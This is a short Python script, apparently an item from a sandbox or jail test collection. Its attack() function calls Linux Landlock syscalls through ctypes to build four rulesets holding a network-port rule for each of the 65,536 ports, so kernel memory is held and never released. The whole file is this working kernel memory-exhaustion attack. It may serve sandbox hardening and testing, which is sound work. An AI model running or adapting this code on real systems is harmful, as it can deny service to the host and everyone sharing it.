"""Makes sets of Landlock's rules, one for each port, and keeps them: memory of the kernel without an end.

Form: jail
Alive: exhausts
"""

import ctypes
import struct

CREATE, ADD, PORT = 444, 445, 2


def attack():
    call = ctypes.CDLL(None, use_errno=True).syscall
    handled, rule, made = struct.pack("QQ", 1, 1), ctypes.create_string_buffer(16), 0
    for _ in range(4):
        rules = call(CREATE, handled, len(handled), 0)
        for port in range(1 << 16):
            struct.pack_into("QQ", rule, 0, 1, port)
            if call(ADD, rules, PORT, rule, 0):
                break
            made += 1
    return made == 4 << 16
